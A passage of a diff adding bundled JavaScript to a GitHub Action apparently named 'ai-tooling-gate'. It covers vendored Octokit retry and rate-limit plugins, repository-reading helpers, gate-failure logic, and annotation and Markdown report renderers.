+paginateRest.VERSION = plugin_paginate_rest_dist_bundle_VERSION;
+
+
+;// CONCATENATED MODULE: ./node_modules/@actions/github/lib/utils.js
+
+
+// octokit + plugins
+
+
+
+const context = new Context();
+const baseUrl = getApiBaseUrl();
+const defaults = {
+    baseUrl,
+    request: {
+        agent: getProxyAgent(baseUrl),
+        fetch: getProxyFetch(baseUrl)
+    }
+};
+const GitHub = Octokit.plugin(restEndpointMethods, paginateRest).defaults(defaults);
+
+/**
+ * Convience function to correctly format Octokit Options to pass into the constructor.
+ *
+ * @param     token    the repo PAT or GITHUB_TOKEN
+ * @param     options  other options to set
+ */
+function getOctokitOptions(token, options) {
+    const opts = Object.assign({}, options || {}); // Shallow clone - don't mutate the object provided by the caller
+    // Auth
+    const auth = getAuthString(token, opts);
+    if (auth) {
+        opts.auth = auth;
+    }
+    // Orchestration ID
+    const userAgent = getUserAgentWithOrchestrationId(opts.userAgent);
+    if (userAgent) {
+        opts.userAgent = userAgent;
+    }
+    return opts;
+}
+//# sourceMappingURL=utils.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/github/lib/github.js
+
+
+const github_context = new Context();
+/**
+ * Returns a hydrated octokit ready to use for GitHub Actions
+ *
+ * @param     token    the repo PAT or GITHUB_TOKEN
+ * @param     options  other options to set
+ */
+function getOctokit(token, options, ...additionalPlugins) {
+    const GitHubWithPlugins = GitHub.plugin(...additionalPlugins);
+    return new GitHubWithPlugins(getOctokitOptions(token, options));
+}
+//# sourceMappingURL=github.js.map
+// EXTERNAL MODULE: ./node_modules/bottleneck/light.js
+var light = __nccwpck_require__(63251);
+;// CONCATENATED MODULE: ./node_modules/@octokit/plugin-retry/dist-bundle/index.js
+// pkg/dist-src/version.js
+var plugin_retry_dist_bundle_VERSION = "0.0.0-development";
+
+// pkg/dist-src/error-request.js
+function isRequestError(error) {
+  return error.request !== void 0;
+}
+async function errorRequest(state, octokit, error, options) {
+  if (!isRequestError(error) || !error?.request.request) {
+    throw error;
+  }
+  if (error.status >= 400 && !state.doNotRetry.includes(error.status)) {
+    const retries = options.request.retries != null ? options.request.retries : state.retries;
+    const retryAfter = Math.pow((options.request.retryCount || 0) + 1, 2);
+    throw octokit.retry.retryRequest(error, retries, retryAfter);
+  }
+  throw error;
+}
+
+// pkg/dist-src/wrap-request.js
+
+
+async function wrapRequest(state, octokit, request, options) {
+  const limiter = new light();
+  limiter.on("failed", function(error, info) {
+    const maxRetries = ~~error.request.request?.retries;
+    const after = ~~error.request.request?.retryAfter;
+    options.request.retryCount = info.retryCount + 1;
+    if (maxRetries > info.retryCount) {
+      return after * state.retryAfterBaseValue;
+    }
+  });
+  return limiter.schedule(
+    requestWithGraphqlErrorHandling.bind(null, state, octokit, request),
+    options
+  );
+}
+async function requestWithGraphqlErrorHandling(state, octokit, request, options) {
+  const response = await request(options);
+  if (response.data && response.data.errors && response.data.errors.length > 0 && /Something went wrong while executing your query/.test(
+    response.data.errors[0].message
+  )) {
+    const error = new RequestError(response.data.errors[0].message, 500, {
+      request: options,
+      response
+    });
+    return errorRequest(state, octokit, error, options);
+  }
+  return response;
+}
+
+// pkg/dist-src/index.js
+function retry(octokit, octokitOptions) {
+  const state = Object.assign(
+    {
+      enabled: true,
+      retryAfterBaseValue: 1e3,
+      doNotRetry: [400, 401, 403, 404, 410, 422, 451],
+      retries: 3
+    },
+    octokitOptions.retry
+  );
+  const retryPlugin = {
+    retry: {
+      retryRequest: (error, retries, retryAfter) => {
+        error.request.request = Object.assign({}, error.request.request, {
+          retries,
+          retryAfter
+        });
+        return error;
+      }
+    }
+  };
+  if (state.enabled) {
+    octokit.hook.error("request", errorRequest.bind(null, state, retryPlugin));
+    octokit.hook.wrap("request", wrapRequest.bind(null, state, retryPlugin));
+  }
+  return retryPlugin;
+}
+retry.VERSION = plugin_retry_dist_bundle_VERSION;
+
+
+;// CONCATENATED MODULE: ./node_modules/@octokit/plugin-throttling/dist-bundle/index.js
+// pkg/dist-src/index.js
+
+
+// pkg/dist-src/version.js
+var plugin_throttling_dist_bundle_VERSION = "0.0.0-development";
+
+// pkg/dist-src/wrap-request.js
+var dist_bundle_noop = () => Promise.resolve();
+function dist_bundle_wrapRequest(state, request, options) {
+  return state.retryLimiter.schedule(doRequest, state, request, options);
+}
+async function doRequest(state, request, options) {
+  const { pathname } = new URL(options.url, "http://github.test");
+  const isAuth = isAuthRequest(options.method, pathname);
+  const isWrite = !isAuth && options.method !== "GET" && options.method !== "HEAD";
+  const isSearch = options.method === "GET" && pathname.startsWith("/search/");
+  const isGraphQL = pathname.startsWith("/graphql");
+  const retryCount = ~~request.retryCount;
+  const jobOptions = retryCount > 0 ? { priority: 0, weight: 0 } : {};
+  if (state.clustering) {
+    jobOptions.expiration = 1e3 * 60;
+  }
+  if (isWrite || isGraphQL) {
+    await state.write.key(state.id).schedule(jobOptions, dist_bundle_noop);
+  }
+  if (isWrite && state.triggersNotification(pathname)) {
+    await state.notifications.key(state.id).schedule(jobOptions, dist_bundle_noop);
+  }
+  if (isSearch) {
+    await state.search.key(state.id).schedule(jobOptions, dist_bundle_noop);
+  }
+  const req = (isAuth ? state.auth : state.global).key(state.id).schedule(jobOptions, request, options);
+  if (isGraphQL) {
+    const res = await req;
+    if (res.data.errors != null && res.data.errors.some((error) => error.type === "RATE_LIMITED")) {
+      const error = Object.assign(new Error("GraphQL Rate Limit Exceeded"), {
+        response: res,
+        data: res.data
+      });
+      throw error;
+    }
+  }
+  return req;
+}
+function isAuthRequest(method, pathname) {
+  return method === "PATCH" && // https://docs.github.com/en/rest/apps/apps?apiVersion=2022-11-28#create-a-scoped-access-token
+  /^\/applications\/[^/]+\/token\/scoped$/.test(pathname) || method === "POST" && // https://docs.github.com/en/rest/apps/oauth-applications?apiVersion=2022-11-28#reset-a-token
+  (/^\/applications\/[^/]+\/token$/.test(pathname) || // https://docs.github.com/en/rest/apps/apps?apiVersion=2022-11-28#create-an-installation-access-token-for-an-app
+  /^\/app\/installations\/[^/]+\/access_tokens$/.test(pathname) || // https://docs.github.com/en/apps/oauth-apps/building-oauth-apps/authorizing-oauth-apps
+  pathname === "/login/oauth/access_token");
+}
+
+// pkg/dist-src/generated/triggers-notification-paths.js
+var triggers_notification_paths_default = [
+  "/orgs/{org}/invitations",
+  "/orgs/{org}/invitations/{invitation_id}",
+  "/orgs/{org}/teams/{team_slug}/discussions",
+  "/orgs/{org}/teams/{team_slug}/discussions/{discussion_number}/comments",
+  "/repos/{owner}/{repo}/collaborators/{username}",
+  "/repos/{owner}/{repo}/commits/{commit_sha}/comments",
+  "/repos/{owner}/{repo}/issues",
+  "/repos/{owner}/{repo}/issues/{issue_number}/comments",
+  "/repos/{owner}/{repo}/issues/{issue_number}/sub_issue",
+  "/repos/{owner}/{repo}/issues/{issue_number}/sub_issues/priority",
+  "/repos/{owner}/{repo}/pulls",
+  "/repos/{owner}/{repo}/pulls/{pull_number}/comments",
+  "/repos/{owner}/{repo}/pulls/{pull_number}/comments/{comment_id}/replies",
+  "/repos/{owner}/{repo}/pulls/{pull_number}/merge",
+  "/repos/{owner}/{repo}/pulls/{pull_number}/requested_reviewers",
+  "/repos/{owner}/{repo}/pulls/{pull_number}/reviews",
+  "/repos/{owner}/{repo}/releases",
+  "/teams/{team_id}/discussions",
+  "/teams/{team_id}/discussions/{discussion_number}/comments"
+];
+
+// pkg/dist-src/route-matcher.js
+function routeMatcher(paths) {
+  const regexes = paths.map(
+    (path) => path.split("/").map((c) => c.startsWith("{") ? "(?:.+?)" : c).join("/")
+  );
+  const regex2 = `^(?:${regexes.map((r) => `(?:${r})`).join("|")})[^/]*$`;
+  return new RegExp(regex2, "i");
+}
+
+// pkg/dist-src/index.js
+var regex = routeMatcher(triggers_notification_paths_default);
+var triggersNotification = regex.test.bind(regex);
+var groups = {};
+var createGroups = function(Bottleneck, common) {
+  groups.global = new Bottleneck.Group({
+    id: "octokit-global",
+    maxConcurrent: 10,
+    ...common
+  });
+  groups.auth = new Bottleneck.Group({
+    id: "octokit-auth",
+    maxConcurrent: 1,
+    ...common
+  });
+  groups.search = new Bottleneck.Group({
+    id: "octokit-search",
+    maxConcurrent: 1,
+    minTime: 2e3,
+    ...common
+  });
+  groups.write = new Bottleneck.Group({
+    id: "octokit-write",
+    maxConcurrent: 1,
+    minTime: 1e3,
+    ...common
+  });
+  groups.notifications = new Bottleneck.Group({
+    id: "octokit-notifications",
+    maxConcurrent: 1,
+    minTime: 3e3,
+    ...common
+  });
+};
+function throttling(octokit, octokitOptions) {
+  const {
+    enabled = true,
+    Bottleneck = light,
+    id = "no-id",
+    timeout = 1e3 * 60 * 2,
+    // Redis TTL: 2 minutes
+    connection
+  } = octokitOptions.throttle || {};
+  if (!enabled) {
+    return {};
+  }
+  const common = { timeout };
+  if (typeof connection !== "undefined") {
+    common.connection = connection;
+  }
+  const state = Object.assign(
+    {
+      clustering: connection != null,
+      triggersNotification,
+      fallbackSecondaryRateRetryAfter: 60,
+      retryAfterBaseValue: 1e3,
+      id
+    },
+    octokitOptions.throttle
+  );
+  if (typeof state.onSecondaryRateLimit !== "function" || typeof state.onRateLimit !== "function") {
+    throw new Error(`octokit/plugin-throttling error:
+        You must pass the onSecondaryRateLimit and onRateLimit error handlers.
+        See https://octokit.github.io/rest.js/#throttling
+
+        const octokit = new Octokit({
+          throttle: {
+            onSecondaryRateLimit: (retryAfter, options) => {/* ... */},
+            onRateLimit: (retryAfter, options) => {/* ... */}
+          }
+        })
+    `);
+  }
+  let initialized = false;
+  const initializeBottleneck = () => {
+    if (initialized) {
+      return;
+    }
+    initialized = true;
+    if (groups.global == null) {
+      createGroups(Bottleneck, common);
+    }
+    state.global = state.global ?? groups.global;
+    state.auth = state.auth ?? groups.auth;
+    state.search = state.search ?? groups.search;
+    state.write = state.write ?? groups.write;
+    state.notifications = state.notifications ?? groups.notifications;
+    state.retryLimiter = state.retryLimiter ?? new Bottleneck();
+    const events = {};
+    const emitter = new Bottleneck.Events(events);
+    events.on("secondary-limit", state.onSecondaryRateLimit);
+    events.on("rate-limit", state.onRateLimit);
+    events.on(
+      "error",
+      (e) => octokit.log.warn("Error in throttling-plugin limit handler", e)
+    );
+    state.retryLimiter.on("failed", async function(error, info) {
+      const [state2, request, options] = info.args;
+      const { pathname } = new URL(options.url, "http://github.test");
+      const shouldRetryGraphQL = pathname.startsWith("/graphql") && error.status !== 401;
+      if (!(shouldRetryGraphQL || error.status === 403 || error.status === 429)) {
+        return;
+      }
+      const retryCount = ~~request.retryCount;
+      request.retryCount = retryCount;
+      options.request.retryCount = retryCount;
+      const { wantRetry, retryAfter = 0 } = await (async function() {
+        if (/\bsecondary rate\b/i.test(error.message)) {
+          const retryAfter2 = Number(error.response.headers["retry-after"]) || state2.fallbackSecondaryRateRetryAfter;
+          const wantRetry2 = await emitter.trigger(
+            "secondary-limit",
+            retryAfter2,
+            options,
+            octokit,
+            retryCount
+          );
+          return { wantRetry: wantRetry2, retryAfter: retryAfter2 };
+        }
+        if (error.response.headers != null && error.response.headers["x-ratelimit-remaining"] === "0" || (error.response.data?.errors ?? []).some(
+          (error2) => error2.type === "RATE_LIMITED"
+        )) {
+          const rateLimitReset = new Date(
+            ~~error.response.headers["x-ratelimit-reset"] * 1e3
+          ).getTime();
+          const retryAfter2 = Math.max(
+            // Add one second so we retry _after_ the reset time
+            // https://docs.github.com/en/rest/overview/resources-in-the-rest-api?apiVersion=2022-11-28#exceeding-the-rate-limit
+            Math.ceil((rateLimitReset - Date.now()) / 1e3) + 1,
+            0
+          );
+          const wantRetry2 = await emitter.trigger(
+            "rate-limit",
+            retryAfter2,
+            options,
+            octokit,
+            retryCount
+          );
+          return { wantRetry: wantRetry2, retryAfter: retryAfter2 };
+        }
+        return {};
+      })();
+      if (wantRetry) {
+        request.retryCount++;
+        return retryAfter * state2.retryAfterBaseValue;
+      }
+    });
+  };
+  octokit.hook.wrap("request", (request, options) => {
+    initializeBottleneck();
+    return dist_bundle_wrapRequest(state, request, options);
+  });
+  return {};
+}
+throttling.VERSION = plugin_throttling_dist_bundle_VERSION;
+throttling.triggersNotification = triggersNotification;
+
+
+;// CONCATENATED MODULE: ./src/github/client.ts
+// The GitHub REST client: Octokit with retries (5xx, network) and rate-limit handling.
+
+
+
+/** The REST base URL of this run: `GITHUB_API_URL` (GitHub Enterprise Server sets it), else github.com's. */
+function apiBaseUrl(env = process.env) {
+    return (env.GITHUB_API_URL || 'https://api.github.com').replace(/\/+$/, '');
+}
+/**
+ * An authenticated client. Server errors are retried with back-off; primary and secondary rate
+ * limits wait for `retry-after` (or the reset time) and retry, up to `retries` times.
+ */
+function client_createClient(token, options = {}) {
+    const retries = options.retries ?? 3;
+    const log = options.log ?? (() => { });
+    const onLimit = (kind) => (retryAfter, request, _octokit, retryCount) => {
+        if (retryCount >= retries) {
+            log(`GitHub API ${kind} rate limit on ${request.method} ${request.url}; giving up after ${retryCount} retries`);
+            return false;
+        }
+        log(`GitHub API ${kind} rate limit on ${request.method} ${request.url}; retrying in ${retryAfter}s`);
+        return true;
+    };
+    return getOctokit(token, {
+        baseUrl: options.baseUrl ?? apiBaseUrl(),
+        userAgent: 'ai-tooling-gate',
+        retry: { retries },
+        throttle: {
+            onRateLimit: onLimit('primary'),
+            onSecondaryRateLimit: onLimit('secondary'),
+        },
+    }, retry, throttling);
+}
+/** The HTTP status of an Octokit error, if it has one. */
+function httpStatus(e) {
+    const status = e.status;
+    return typeof status === 'number' ? status : undefined;
+}
+
+;// CONCATENATED MODULE: ./src/github/files.ts
+// Reading repository contents through the REST API: trees, blobs, contents, pull-request files.
+
+class GitHubReadError extends Error {
+}
+/** Every entry of a commit's tree; throws when GitHub truncates the listing. */
+async function readTree(client, owner, repo, commit) {
+    const { data } = await client.rest.git.getTree({ owner, repo, tree_sha: commit, recursive: 'true' });
+    if (data.truncated) {
+        throw new GitHubReadError(`the tree of ${owner}/${repo}@${commit} is too large for the GitHub API listing; check out the repository (actions/checkout) so it is read with git`);
+    }
+    return data.tree.map((e) => ({
+        path: e.path ?? '',
+        mode: e.mode ?? '',
+        type: e.type ?? '',
+        sha: e.sha ?? '',
+        ...(typeof e.size === 'number' ? { size: e.size } : {}),
+    }));
+}
+/** The bytes of a blob. */
+async function readBlob(client, owner, repo, sha) {
+    const { data } = await client.rest.git.getBlob({ owner, repo, file_sha: sha });
+    if (data.encoding !== 'base64' && data.encoding !== 'utf-8') {
+        throw new GitHubReadError(`blob ${sha} has an unknown encoding ${data.encoding}`);
+    }
+    const buf = data.encoding === 'base64' ? Buffer.from(data.content, 'base64') : Buffer.from(data.content, 'utf8');
+    return new Uint8Array(buf.buffer, buf.byteOffset, buf.length);
+}
+/**
+ * A file's bytes at a ref through the contents API, or null when it does not exist there. Files
+ * over 1 MB (whose content the contents API leaves out) are read as blobs.
+ */
+async function readContent(client, owner, repo, path, ref) {
+    let data;
+    try {
+        ({ data } = await client.rest.repos.getContent({ owner, repo, path, ...(ref ? { ref } : {}) }));
+    }
+    catch (e) {
+        if (httpStatus(e) === 404)
+            return null;
+        throw e;
+    }
+    if (Array.isArray(data) || data.type !== 'file') {
+        throw new GitHubReadError(`${owner}/${repo}/${path}${ref ? '@' + ref : ''} is not a file`);
+    }
+    if (data.encoding === 'base64' && data.content) {
+        const buf = Buffer.from(data.content, 'base64');
+        return new Uint8Array(buf.buffer, buf.byteOffset, buf.length);
+    }
+    return readBlob(client, owner, repo, data.sha);
+}
+/**
+ * Reads `path` of `owner/repo` at `ref` (the default branch when empty) as text, for `github:`
+ * policy references. Throws when it does not exist or cannot be read.
+ */
+async function readGithubFileWith(client, owner, repo, path, ref) {
+    const bytes = await readContent(client, owner, repo, path, ref || undefined);
+    if (bytes === null)
+        throw new GitHubReadError(`github:${owner}/${repo}/${path}${ref ? '@' + ref : ''} does not exist`);
+    return new TextDecoder('utf-8', { fatal: true }).decode(bytes).replace(/^\uFEFF/, '');
+}
+/**
+ * `readGithubFile` with a client from the environment's token (`GITHUB_TOKEN`, `GH_TOKEN` or the
+ * action's `token` input) and `GITHUB_API_URL`.
+ */
+async function readGithubFile(owner, repo, path, ref) {
+    const token = process.env.GITHUB_TOKEN || process.env.GH_TOKEN || process.env.INPUT_TOKEN || '';
+    if (!token)
+        throw new GitHubReadError(`reading github:${owner}/${repo}/${path} needs a token (GITHUB_TOKEN)`);
+    return readGithubFileWith(createClient(token), owner, repo, path, ref);
+}
+/** GitHub lists at most this many files of a pull request. */
+const PULL_FILES_CAP = 3000;
+/**
+ * The paths a pull request changes (both sides of a rename), or null when it changes so many that
+ * GitHub's listing is capped (then the caller compares the trees instead).
+ */
+async function listPullFiles(client, owner, repo, pullNumber) {
+    const files = await client.paginate(client.rest.pulls.listFiles, {
+        owner,
+        repo,
+        pull_number: pullNumber,
+        per_page: 100,
+    });
+    if (files.length >= PULL_FILES_CAP)
+        return null;
+    const out = new Set();
+    for (const f of files) {
+        out.add(f.filename);
+        if (f.previous_filename)
+            out.add(f.previous_filename);
+    }
+    return out;
+}
+/** Parses `github:OWNER/REPO/PATH@REF` (REF optional). */
+function parseGithubRef(ref) {
+    const m = /^github:([A-Za-z0-9_.-]+)\/([A-Za-z0-9_.-]+)\/([^@]+?)(?:@([^@]+))?$/.exec(ref);
+    if (!m)
+        return null;
+    return { owner: m[1], repo: m[2], path: m[3], ref: m[4] ?? '' };
+}
+
 ;// CONCATENATED MODULE: ./src/limits.ts
 const defaultLimits = {
     maxFileBytes: 64 * 1024 * 1024,
@@ -51094,6 +58984,6287 @@ function limitsFromEnv(env, base = defaultLimits) {
         maxFiles: num('AITG_MAX_FILES', base.maxFiles),
         maxDepth: num('AITG_MAX_DEPTH', base.maxDepth),
         maxComponentsPerFile: num('AITG_MAX_COMPONENTS_PER_FILE', base.maxComponentsPerFile),
+    };
+}
+
+;// CONCATENATED MODULE: ./src/report.ts
+function buildReport(input) {
+    const active = input.findings.filter((f) => f.status !== 'removed');
+    const summary = {
+        filesScanned: input.filesScanned,
+        components: input.components,
+        failed: active.filter((f) => f.action === 'fail').length,
+        warned: active.filter((f) => f.action === 'warn').length,
+        passed: active.filter((f) => f.action === 'pass').length,
+    };
+    if (input.mode === 'diff') {
+        summary.introduced = input.findings.filter((f) => f.status === 'introduced' && f.action !== 'pass').length;
+        summary.removed = input.findings.filter((f) => f.status === 'removed').length;
+    }
+    return {
+        schemaVersion: 1,
+        mode: input.mode,
+        findings: input.findings,
+        errors: input.errors,
+        notices: input.notices,
+        ...(input.diff ? { diff: input.diff } : {}),
+        summary,
+        policy: { sources: input.policySources },
+    };
+}
+/** The findings that fail the gate under a `fail-on` setting. */
+function gateFindings(report, failOn) {
+    if (failOn === 'never')
+        return [];
+    return report.findings.filter((f) => f.action === 'fail' &&
+        f.status !== 'removed' &&
+        (failOn === 'any' || report.mode !== 'diff' || f.status === 'introduced'));
+}
+/**
+ * The errors that fail the gate: every error, except that in diff mode under `introduced` an
+ * error in a file the change did not touch only warns.
+ */
+function gateErrors(report, failOn) {
+    if (failOn === 'never')
+        return [];
+    if (report.mode === 'diff' && failOn === 'introduced')
+        return report.errors.filter((e) => e.status !== 'unchanged');
+    return report.errors;
+}
+/** Whether the gate fails: a failing finding, or an input that had to be scanned and could not be read. */
+function gateFails(report, failOn, gatingErrors = gateErrors(report, failOn)) {
+    if (failOn === 'never')
+        return false;
+    return gateFindings(report, failOn).length > 0 || gatingErrors.length > 0;
+}
+
+;// CONCATENATED MODULE: ./src/reporters/annotations.ts
+
+/** The runner shows at most this many annotations of each type per step. */
+const ANNOTATIONS_PER_TYPE = 10;
+function repoPath(prefix, file) {
+    return prefix ? `${prefix.replace(/\/+$/, '')}/${file}` : file;
+}
+/**
+ * Emits annotations: `error` for what fails the gate, `warning` for the rest (warn findings,
+ * pre-existing banned components under `fail-on: introduced`, errors in unchanged files). Every
+ * finding is annotated, most important first (introduced, then the rest), because the runner keeps
+ * only the first `limit` of each type; the counts say how many it will drop.
+ */
+function annotate(report, failOn, sink, options = {}) {
+    const prefix = options.pathPrefix ?? '';
+    const limit = options.limit ?? ANNOTATIONS_PER_TYPE;
+    const gating = new Set(gateFindings(report, failOn));
+    const gatingErrors = new Set(gateErrors(report, failOn));
+    const items = [];
+    for (const f of report.findings) {
+        if (f.action === 'pass' || f.status === 'removed')
+            continue;
+        const level = gating.has(f) ? 'error' : 'warning';
+        const statusNote = f.status === 'unchanged'
+            ? ' (already on the base branch)'
+            : f.status === 'introduced'
+                ? ' (introduced by this change)'
+                : '';
+        items.push({
+            level,
+            message: `${f.message}${statusNote}`,
+            props: {
+                title: `ai-tooling-gate: ${f.ruleId}`,
+                file: repoPath(prefix, f.location.file),
+                startLine: f.location.line,
+                ...(f.location.column ? { startColumn: f.location.column } : {}),
+            },
+            rank: f.status === 'introduced' ? 0 : f.status === undefined ? 1 : 2,
+        });
+    }
+    for (const e of report.errors) {
+        items.push({
+            level: gatingErrors.has(e) ? 'error' : 'warning',
+            message: `could not be scanned: ${e.message}${e.status === 'unchanged' ? ' (file not changed here)' : ''}`,
+            props: {
+                title: 'ai-tooling-gate: scan error',
+                file: repoPath(prefix, e.file),
+                ...(e.line ? { startLine: e.line } : {}),
+                ...(e.column ? { startColumn: e.column } : {}),
+            },
+            rank: e.status === 'unchanged' ? 2 : 1,
+        });
+    }
+    items.sort((a, b) => a.rank - b.rank);
+    const counts = { errors: { shown: 0, omitted: 0 }, warnings: { shown: 0, omitted: 0 } };
+    for (const item of items) {
+        const c = item.level === 'error' ? counts.errors : counts.warnings;
+        if (c.shown >= limit)
+            c.omitted++;
+        else
+            c.shown++;
+        if (item.level === 'error')
+            sink.error(item.message, item.props);
+        else
+            sink.warning(item.message, item.props);
+    }
+    for (const n of report.notices) {
+        sink.notice(n.message, {
+            title: 'ai-tooling-gate: policy',
+            ...(n.origin ? { file: repoPath(prefix, n.origin.file), startLine: n.origin.line } : {}),
+        });
+    }
+    return counts;
+}
+/** The summary's note about annotations the runner would not show. */
+function omittedNote(counts) {
+    const parts = [];
+    if (counts.errors.omitted)
+        parts.push(`${counts.errors.omitted} more error(s)`);
+    if (counts.warnings.omitted)
+        parts.push(`${counts.warnings.omitted} more warning(s)`);
+    if (parts.length === 0)
+        return undefined;
+    return `> The runner shows ${ANNOTATIONS_PER_TYPE} annotations of each type per step: ${parts.join(' and ')} are not shown as annotations; all are listed below.`;
+}
+
+;// CONCATENATED MODULE: ./src/reporters/json.ts
+function renderJson(report) {
+    return JSON.stringify(report, null, 2) + '\n';
+}
+
+;// CONCATENATED MODULE: ./src/reporters/markdown.ts
+
+/** Escapes text for a table cell or inline prose. */
+function mdText(s) {
+    return s.replace(/\r?\n/g, ' ').replace(/([\\`*_[\]<>|#~])/g, '\\$1');
+}
+/** Inline code that survives backticks in the value. */
+function mdCode(s) {
+    const clean = s.replace(/\r?\n/g, ' ').replace(/\|/g, '\\|');
+    const longest = Math.max(0, ...[...clean.matchAll(/`+/g)].map((m) => m[0].length));
+    const fence = '`'.repeat(longest + 1);
+    const pad = clean.startsWith('`') || clean.endsWith('`') ? ' ' : '';
+    return `${fence}${pad}${clean}${pad}${fence}`;
+}
+const STATUS_ORDER = { introduced: 0, unchanged: 1, undefined: 1, removed: 2 };
+const ACTION_ORDER = { fail: 0, warn: 1, pass: 2 };
+function actionLabel(f, gating) {
+    if (f.action === 'pass')
+        return `excepted until ${f.exception?.expires ?? '?'}`;
+    if (gating.has(f))
+        return '❌ fails the gate';
+    return f.action === 'fail' ? '⚠️ banned (pre-existing)' : '⚠️ warning';
+}
+/** Collects lines up to a byte budget, keeping room for a closing note. */
+class Budget {
+    max;
+    lines = [];
+    used = 0;
+    constructor(max) {
+        this.max = max;
+    }
+    fits(line, reserve = 0) {
+        return this.used + Buffer.byteLength(line) + 1 + reserve <= this.max;
+    }
+    push(line) {
+        this.lines.push(line);
+        this.used += Buffer.byteLength(line) + 1;
+    }
+}
+/** The verdict in one sentence. */
+function verdictLine(report, failOn) {
+    const failed = gateFails(report, failOn);
+    const findings = gateFindings(report, failOn).length;
+    const errors = gateErrors(report, failOn).length;
+    if (!failed) {
+        if (failOn === 'never')
+            return 'Passed: `fail-on: never` never fails the gate.';
+        const pre = report.findings.filter((f) => f.action === 'fail' && f.status === 'unchanged').length;
+        const fixed = report.findings.filter((f) => f.status === 'removed' && f.action !== 'pass').length;
+        const parts = ['Passed: no banned AI tooling is introduced'];
+        if (report.mode === 'audit')
+            parts[0] = 'Passed: no banned AI tooling found';
+        if (pre > 0)
+            parts.push(`${pre} banned component(s) already on the base branch are reported as warnings`);
+        if (fixed > 0)
+            parts.push(`${fixed} finding(s) fixed by this change`);
+        return parts.join('; ') + '.';
+    }
+    const parts = [];
+    if (findings > 0) {
+        parts.push(report.mode === 'diff' && failOn === 'introduced'
+            ? `${findings} banned component(s) introduced by this change`
+            : `${findings} banned component(s)`);
+    }
+    if (errors > 0)
+        parts.push(`${errors} file(s) that could not be scanned (the gate fails closed)`);
+    return `Failed: ${parts.join(' and ')} (fail-on: ${failOn}).`;
+}
+/** Renders the report as Markdown, within `maxBytes`. */
+function renderMarkdown(report, options) {
+    const h = '#'.repeat(options.headingLevel ?? 2);
+    const budget = new Budget(options.maxBytes ?? Number.POSITIVE_INFINITY);
+    const failed = gateFails(report, options.failOn);
+    const gating = new Set(gateFindings(report, options.failOn));
+    const gatingErrors = new Set(gateErrors(report, options.failOn));
+    const s = report.summary;
+    const NOTE_RESERVE = 400;
+    const head = [
+        `${h} ${failed ? '❌' : '✅'} ${options.title ?? 'ai-tooling-gate'}: ${failed ? 'failed' : 'passed'}`,
+        '',
+        verdictLine(report, options.failOn),
+        '',
+    ];
+    for (const n of options.extraNotes ?? [])
+        head.push(n, '');
+    head.push(report.mode === 'diff'
+        ? '| Fail the gate | Banned | Warnings | Introduced | Fixed | Excepted | Errors | Files scanned |'
+        : '| Fail the gate | Banned | Warnings | Excepted | Errors | Files scanned |', report.mode === 'diff' ? '|---:|---:|---:|---:|---:|---:|---:|---:|' : '|---:|---:|---:|---:|---:|---:|', report.mode === 'diff'
+        ? `| ${gating.size + gatingErrors.size} | ${s.failed} | ${s.warned} | ${s.introduced ?? 0} | ${s.removed ?? 0} | ${s.passed} | ${report.errors.length} | ${s.filesScanned} |`
+        : `| ${gating.size + gatingErrors.size} | ${s.failed} | ${s.warned} | ${s.passed} | ${report.errors.length} | ${s.filesScanned} |`, '');
+    for (const line of head)
+        budget.push(line);
+    const active = report.findings.filter((f) => f.status !== 'removed');
+    const removed = report.findings.filter((f) => f.status === 'removed');
+    let omitted = 0;
+    const where = (file, line) => {
+        const url = options.link?.(file, line);
+        return url ? `[L${line}](${url})` : `L${line}`;
+    };
+    const row = (f) => {
+        const c = f.component;
+        const version = c.version ?? (c.spec ? `${c.spec} (unknown)` : 'unknown');
+        const tool = f.tool ? `${mdText(f.tool)}${f.toolVersion ? ' ' + mdText(f.toolVersion) : ''}` : '—';
+        return `| ${f.status ?? 'present'} | ${actionLabel(f, gating)} | ${tool} | ${mdText(c.ecosystem)} ${mdCode(c.alias ? `${c.name} (as ${c.alias})` : c.name)} | ${mdCode(version)} | ${mdCode(f.ruleId)} | ${where(f.location.file, f.location.line)} |`;
+    };
+    const section = (title, findings) => {
+        if (findings.length === 0)
+            return;
+        const byFile = new Map();
+        const sorted = [...findings].sort((a, b) => STATUS_ORDER[`${a.status}`] -
+            STATUS_ORDER[`${b.status}`] ||
+            ACTION_ORDER[a.action] - ACTION_ORDER[b.action] ||
+            (a.location.file < b.location.file ? -1 : a.location.file > b.location.file ? 1 : 0) ||
+            a.location.line - b.location.line);
+        for (const f of sorted) {
+            const list = byFile.get(f.location.file);
+            if (list)
+                list.push(f);
+            else
+                byFile.set(f.location.file, [f]);
+        }
+        const titleLine = `${h}# ${title}`;
+        if (!budget.fits(titleLine, NOTE_RESERVE)) {
+            omitted += findings.length;
+            return;
+        }
+        budget.push(titleLine);
+        budget.push('');
+        for (const [file, list] of byFile) {
+            const fileHead = [
+                `**${mdCode(file)}**`,
+                '',
+                '| Status | Verdict | Tool | Carrier | Version | Rule | Line |',
+                '|---|---|---|---|---|---|---|',
+            ];
+            if (!budget.fits(fileHead.join('\n') + row(list[0]), NOTE_RESERVE)) {
+                omitted += list.length;
+                continue;
+            }
+            for (const l of fileHead)
+                budget.push(l);
+            for (const f of list) {
+                const r = row(f);
+                if (budget.fits(r, NOTE_RESERVE))
+                    budget.push(r);
+                else
+                    omitted++;
+            }
+            budget.push('');
+        }
+    };
+    section('Findings by file', active);
+    section('Fixed by this change', removed);
+    if (report.errors.length > 0 && budget.fits(`${h}# Errors`, NOTE_RESERVE)) {
+        budget.push(`${h}# Files that could not be scanned`);
+        budget.push('');
+        for (const e of report.errors) {
+            const line = `- ${gatingErrors.has(e) ? '❌' : '⚠️'} ${mdCode(`${e.file}${e.line ? ':' + e.line : ''}`)}: ${mdText(e.message)}${e.status === 'unchanged' ? ' (file not changed here: warning only)' : ''}`;
+            if (budget.fits(line, NOTE_RESERVE))
+                budget.push(line);
+            else
+                omitted++;
+        }
+        budget.push('');
+    }
+    else
+        omitted += report.errors.length;
+    if (report.notices.length > 0 && budget.fits(`${h}# Notices`, NOTE_RESERVE)) {
+        budget.push(`${h}# Notices`);
+        budget.push('');
+        for (const n of report.notices) {
+            const line = `- ${n.origin ? `${mdCode(`${n.origin.file}:${n.origin.line}`)}: ` : ''}${mdText(n.message)}`;
+            if (budget.fits(line, NOTE_RESERVE))
+                budget.push(line);
+            else
+                omitted++;
+        }
+        budget.push('');
+    }
+    if (omitted > 0) {
